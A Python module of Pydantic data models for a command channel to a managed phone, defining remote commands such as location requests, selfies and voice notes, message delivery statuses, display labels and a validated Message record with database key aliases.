"""
Pydantic models for the chat channel shared with the managed phone.
Field aliases are the record keys stored in the Realtime Database.
"""

from pydantic import BaseModel, Field, PrivateAttr, model_validator
from typing import Any, Dict, Optional
from enum import Enum

# =============================================================================
# ENUMS
# =============================================================================

class ServerCommand(str, Enum):
    GET_LOCATION = "GetLocation"
    GET_LOCATION_TIMELINE = "GetLocationTimeline"
    TAKE_SELFIE = "TakeSelfie"
    GET_VOICE_NOTE = "GetVoiceNote"
    GET_SIM_NUMBERS = "GetSimNumbers"
    SEND_NOTIFICATION = "SendNotification"

    @property
    def label(self) -> str:
        return COMMAND_LABELS[self]

    @classmethod
    def from_label(cls, label: str) -> "ServerCommand":
        """Resolve an operator menu label ("Take Selfie") or a wire value ("TakeSelfie")"""
        wanted = label.strip().lower()
        for command in cls:
            if wanted in (command.value.lower(), command.label.lower()):
                return command
        raise ValueError(f"Unknown command: {label!r}")


class MessageStatus(str, Enum):
    BEFORE_UPLOADED = "BEFORE_UPLOADED"  # created locally, not yet confirmed stored
    UPLOADED = "UPLOADED"                # stored in the channel
    DELIVERED = "DELIVERED"              # the phone picked it up

    @property
    def rank(self) -> int:
        return _STATUS_RANK[self]

    @property
    def label(self) -> str:
        return STATUS_LABELS[self]

    def can_transition_to(self, other: "MessageStatus") -> bool:
        return other.rank >= self.rank


# Delivery-status names used in conversation with operators
PENDING = MessageStatus.BEFORE_UPLOADED
SUBMITTED = MessageStatus.UPLOADED
ACKNOWLEDGED = MessageStatus.DELIVERED

_STATUS_RANK = {
    MessageStatus.BEFORE_UPLOADED: 0,
    MessageStatus.UPLOADED: 1,
    MessageStatus.DELIVERED: 2,
}

# =============================================================================
# MENU / DISPLAY CONSTANTS
# =============================================================================

COMMAND_LABELS: Dict[ServerCommand, str] = {
    ServerCommand.GET_LOCATION: "Get Location",
    ServerCommand.TAKE_SELFIE: "Take Selfie",
    ServerCommand.GET_VOICE_NOTE: "Get Voice Note",
    ServerCommand.GET_SIM_NUMBERS: "Get Sim Numbers",
    ServerCommand.GET_LOCATION_TIMELINE: "Get Location Timeline",
    ServerCommand.SEND_NOTIFICATION: "Send Notification",
}

STATUS_LABELS: Dict[MessageStatus, str] = {
    MessageStatus.BEFORE_UPLOADED: "Sending",
    MessageStatus.UPLOADED: "Sent",
    MessageStatus.DELIVERED: "Delivered",
}

# =============================================================================
# DATA MODELS
# =============================================================================

class Message(BaseModel):
    """One command and (eventually) the phone's answer to it"""
    key: str
    command: ServerCommand
    issued_at: int = Field(alias="commandTimestamp")
    status: MessageStatus
    response: Optional[str] = None
    responded_at: Optional[int] = Field(default=None, alias="responseTimestamp")

    # Slot the record is stored under; usually equal to key, but older
    # records can carry a key field that differs from their slot
    _storage_key: Optional[str] = PrivateAttr(default=None)

    class Config:
        populate_by_name = True
        frozen = True

    @model_validator(mode="after")
    def _response_pairing(self) -> "Message":
        if (self.response is None) != (self.responded_at is None):
            raise ValueError("response and responseTimestamp must be present together")
        return self

    @property
    def storage_key(self) -> str:
        return self._storage_key or self.key

    def stored_at(self, storage_key: str) -> "Message":
        self._storage_key = storage_key
        return self

    @property
    def has_response(self) -> bool:
        return self.response is not None

    def to_record(self) -> Dict[str, Any]:
        """Wire representation as stored under the channel"""
        return self.model_dump(by_alias=True, exclude_none=True, mode="json")
